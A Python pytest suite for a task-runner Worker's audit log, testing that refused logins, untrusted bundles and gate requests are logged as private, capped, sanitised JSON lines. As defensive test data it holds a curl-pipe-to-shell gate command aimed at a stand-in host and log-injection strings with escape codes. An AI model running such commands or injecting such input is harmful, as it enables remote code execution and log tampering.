"""The Worker's audit log: what it refused, one inert JSON line an entry, private, capped, never in the way."""

from __future__ import annotations

import io
import json
import os
import stat
import threading
import time
from pathlib import Path
from typing import Any, Callable

import pytest

from taskrunner.bundle import Limits
from taskrunner.protocol import Message, Reader, encode
from taskrunner.sessionauth import auth_envelope, new_challenge
from taskrunner.signing import SigningKey
from taskrunner.worker import audit, main as worker_main, serve as serve_module
from taskrunner.worker.inbound import Inbound
from taskrunner.worker.trust import TrustRefused, TrustStore, worker_key
from tests.signed import ControlPlane, enroll
from tests.unit.test_worker_serve import Session, poll_until, sessions  # noqa: F401  (fixture)

STRANGER = SigningKey.generate()


@pytest.fixture()
def home(tmp_path: Path) -> Path:
    return tmp_path / "worker-home"


def _entries(home: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (home / audit.AUDIT_FILE).read_bytes().splitlines()]


# ---------------------------------------------------------------- the file


def test_an_entry_is_one_private_json_line_with_time_event_reason_detail_and_peer(
        home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSH_CONNECTION", "203.0.113.9 51234 10.0.0.2 22")
    audit.record(home, audit.BUNDLE_REFUSED, "bundle rejected: signed by unknown key id X", now=0.5,
                 run_id="run-1", signers=["SHA256:abc"])
    path = home / audit.AUDIT_FILE
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert _entries(home) == [{"time": "1970-01-01T00:00:00.500Z", "event": "bundle_refused",
                               "reason": "bundle rejected: signed by unknown key id X", "peer": "203.0.113.9:51234",
                               "run_id": "run-1", "signers": ["SHA256:abc"]}]


def test_without_ssh_connection_no_peer_is_recorded(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SSH_CONNECTION", raising=False)
    audit.record(home, audit.GATE_REFUSED, "refused")
    assert "peer" not in _entries(home)[0]


def test_attacker_text_is_cut_and_made_inert(home: Path) -> None:
    hostile = "\x1b[2J\u202e\r\n{\"event\": \"forged\"}\n" + "A" * 10_000
    audit.record(home, audit.UNAUTHENTICATED_REQUEST, hostile, request=hostile, nested={"k": [hostile] * 100})
    raw = (home / audit.AUDIT_FILE).read_bytes()
    assert raw.count(b"\n") == 1 and raw.endswith(b"\n")
    assert raw.isascii() and b"\x1b" not in raw and b"\r" not in raw
    (entry,) = _entries(home)
    assert entry["event"] == "unauthenticated_request"
    assert len(entry["reason"]) == audit.MAX_FIELD_CHARS + 3 and entry["reason"].endswith("...")
    assert len(entry["request"]) == audit.MAX_FIELD_CHARS + 3
    assert len(entry["nested"]["k"]) == audit.MAX_LIST_ITEMS
    shown = audit.format_entry(entry)
    assert "\x1b" not in shown and "\u202e" not in shown and "\n" not in shown and "\\x1b" in shown


def test_a_link_in_place_of_the_log_is_not_followed(home: Path, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    home.mkdir()
    (home / audit.AUDIT_FILE).symlink_to(victim)
    audit.record(home, audit.GATE_REFUSED, "refused")  # does not raise
    assert victim.read_text() == "precious\n"
    assert "audit entry not written" in capsys.readouterr().err


def test_a_fifo_in_place_of_the_log_neither_blocks_nor_raises(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    home.mkdir()
    os.mkfifo(home / audit.AUDIT_FILE)
    done = threading.Event()
    threading.Thread(target=lambda: (audit.record(home, audit.GATE_REFUSED, "refused"), done.set()),
                     daemon=True).start()
    assert done.wait(10), "writing the audit entry blocked on a FIFO"
    assert "audit entry not written" in capsys.readouterr().err


def test_an_unwritable_home_drops_the_entry_with_a_line_on_stderr(tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    not_a_dir = tmp_path / "file"
    not_a_dir.write_text("")
    audit.record(not_a_dir, audit.AUTH_REFUSED, "refused")
    assert "audit entry not written" in capsys.readouterr().err


def test_an_existing_looser_log_is_made_private(home: Path) -> None:
    home.mkdir()
    path = home / audit.AUDIT_FILE
    path.write_text("")
    path.chmod(0o644)
    audit.record(home, audit.AUTH_REFUSED, "refused")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_the_log_is_rotated_once_past_its_cap_and_read_back_in_order(home: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(audit, "MAX_AUDIT_BYTES", 2000)
    for n in range(100):
        audit.record(home, audit.AUTH_REFUSED, "refused", seq=n)
    current, previous = home / audit.AUDIT_FILE, home / (audit.AUDIT_FILE + ".1")
    assert current.stat().st_size <= 2000 and previous.stat().st_size <= 2000
    assert sorted(p.name for p in home.iterdir()) == [audit.AUDIT_FILE, audit.AUDIT_FILE + ".1"]
    kept = [e["seq"] for e in audit.read(home)]
    assert kept == list(range(100 - len(kept), 100)) and len(kept) > 10
    assert [e["seq"] for e in audit.read(home, tail=3)] == [97, 98, 99]


def test_writers_at_once_never_interleave_their_lines(home: Path) -> None:
    def write(worker: int) -> None:
        for n in range(200):
            audit.record(home, audit.UNAUTHENTICATED_REQUEST, "x" * (n % 300), worker=worker, seq=n)
    threads = [threading.Thread(target=write, args=(w,)) for w in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    entries = _entries(home)  # every line parses
    assert len(entries) == 1600
    assert {(e["worker"], e["seq"]) for e in entries} == {(w, n) for w in range(8) for n in range(200)}


def test_a_line_cut_by_a_full_disk_is_skipped_when_read(home: Path) -> None:
    audit.record(home, audit.AUTH_REFUSED, "first")
    with open(home / audit.AUDIT_FILE, "ab") as handle:
        handle.write(b'{"time": "2026-')
    audit.record(home, audit.AUTH_REFUSED, "second")
    assert [e["reason"] for e in audit.read(home)] == ["first"]  # the cut line swallowed the next one's start
    audit.record(home, audit.AUTH_REFUSED, "third")
    assert [e["reason"] for e in audit.read(home)] == ["first", "third"]


# ---------------------------------------------------------------- what the Worker logs


class _Screen:
    """An Inbound over encoded records, its replies kept."""

    def __init__(self, home: Path, records: bytes, authenticated: bool = False) -> None:
        self.sent: list[dict[str, Any]] = []
        self.passed: list[object] = []
        self.challenge = new_challenge()
        self.inbound = Inbound(Reader(io.BytesIO(records)), lambda kind, **f: self.sent.append({"type": kind, **f}),
                               home, TrustStore(home), worker_key(home).key_id, self.challenge, Limits())
        self.inbound.authenticated = authenticated

    def run(self) -> None:
        self.inbound.run(self.passed.append)


def test_a_failed_auth_is_logged_with_the_key_it_claims(home: Path, tmp_path: Path) -> None:
    cp = enroll(home, tmp_path / "cp")
    screen = _Screen(home, b"")
    forged = auth_envelope([STRANGER], screen.challenge, cp.audience, time.time())
    screen.inbound._reader = Reader(io.BytesIO(encode(Message("auth", {"envelope": forged}))))
    screen.run()
    (entry,) = _entries(home)
    assert entry["event"] == "auth_refused" and STRANGER.key_id in entry["reason"]
    assert entry["signers"] == [STRANGER.key_id]


def test_records_before_auth_are_logged_then_capped_per_session(home: Path, tmp_path: Path) -> None:
    enroll(home, tmp_path / "cp")
    records = b"".join(encode(Message("cancel", {"run_id": f"r{n}"})) for n in range(audit.MAX_SESSION_ENTRIES + 20))
    _Screen(home, records).run()
    entries = _entries(home)
    requests = [e for e in entries if e["event"] == "unauthenticated_request"]
    assert len(requests) == audit.MAX_SESSION_ENTRIES + 1
    assert requests[0]["request"] == "cancel" and requests[0]["run_id"] == "r0"
    assert "not logged one by one" in requests[-1]["reason"]
    assert entries[-1]["event"] == "session_unauthenticated"


def test_a_refused_bundle_is_logged_with_its_run_id_and_signers(home: Path, tmp_path: Path) -> None:
    enroll(home, tmp_path / "cp")
    stranger = ControlPlane.make(home, tmp_path / "stranger")  # keys this Worker does not trust
    screen = _Screen(home, encode(stranger.assignment("run-evil")), authenticated=True)
    screen.run()
    assert screen.sent[0]["request"] == "assign"
    (entry,) = _entries(home)
    assert entry["event"] == "bundle_refused" and entry["run_id"] == "run-evil"
    assert entry["signers"] == [stranger.key.key_id] and entry["reason"] == screen.sent[0]["message"]


def test_a_bundle_whose_archive_does_not_match_is_logged(home: Path, tmp_path: Path) -> None:
    cp = enroll(home, tmp_path / "cp")
    message = cp.assignment("run-swapped")
    swapped = Message("assign", message.fields, bytes(len(message.payload)))
    _Screen(home, encode(swapped), authenticated=True).run()
    (entry,) = _entries(home)
    assert entry["event"] == "bundle_refused" and entry["run_id"] == "run-swapped" and "hash" in entry["reason"]


def test_a_session_that_ends_or_breaks_before_auth_is_logged(home: Path, tmp_path: Path) -> None:
    enroll(home, tmp_path / "cp")
    _Screen(home, b"").run()
    with pytest.raises(Exception):
        _Screen(home, b"garbage\n").run()
    first, second = _entries(home)
    assert first["event"] == second["event"] == "session_unauthenticated"
    assert "before it was authenticated" in first["reason"] and "malformed record header" in second["reason"]


def test_an_authenticated_session_that_ends_logs_nothing(home: Path, tmp_path: Path) -> None:
    enroll(home, tmp_path / "cp")
    _Screen(home, encode(Message("cancel", {"run_id": "r1"})), authenticated=True).run()
    assert not (home / audit.AUDIT_FILE).exists()


def test_a_session_closed_for_not_authenticating_in_time_is_logged(
        sessions: Callable[[], Session], home: Path, tmp_path: Path,  # noqa: F811
        monkeypatch: pytest.MonkeyPatch) -> None:
    enroll(home, tmp_path / "cp")
    monkeypatch.setattr(serve_module, "AUTH_TIMEOUT_SECONDS", 0.3)
    session = sessions()
    assert session.next().type == "hello"
    poll_until(lambda: not session.serving, "the session to end")
    assert any(e["event"] == "session_unauthenticated" and "no auth in" in e["reason"] for e in _entries(home))


def test_a_refused_enrollment_and_a_refused_trust_statement_are_logged(home: Path, tmp_path: Path) -> None:
    stranger = ControlPlane.make(home, tmp_path / "stranger")
    with pytest.raises(TrustRefused):  # no pin, no token: nobody may enroll this Worker
        TrustStore(home).apply(stranger.trust_request(), stranger.audience, time.time())
    enroll(home, tmp_path / "cp")
    with pytest.raises(TrustRefused):  # enrolled: only a key it trusts may change its trust
        TrustStore(home).apply(stranger.trust_request(), stranger.audience, time.time())
    first, second = _entries(home)
    assert first["event"] == "enrollment_refused" and first["signers"] == [stranger.key.key_id]
    assert second["event"] == "trust_refused" and "signed by a key it trusts" in second["reason"]


def test_a_refused_gate_request_is_logged_with_the_command(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSH_CONNECTION", "::1 4000 ::1 22")
    assert worker_main.gate(home, "sh -c 'curl evil | sh'") == worker_main.EXIT_USAGE
    (entry,) = _entries(home)
    assert entry["event"] == "gate_refused" and entry["request"] == "sh -c 'curl evil | sh'"
    assert entry["peer"] == "[::1]:4000" and entry["reason"].startswith("refused ")


def test_the_audit_command_prints_entries_readably_or_as_json(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for n in range(3):
        audit.record(home, audit.GATE_REFUSED, f"refused \x1b[31m{n}", request="bash")
    assert worker_main.main(["audit", "--home", str(home), "--tail", "2"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2 and "gate_refused: refused \\x1b[31m1 (request=bash)" in lines[0]
    assert worker_main.main(["audit", "--home", str(home), "--json"]) == 0
    assert [json.loads(line)["reason"] for line in capsys.readouterr().out.splitlines()] == \
        [f"refused \x1b[31m{n}" for n in range(3)]
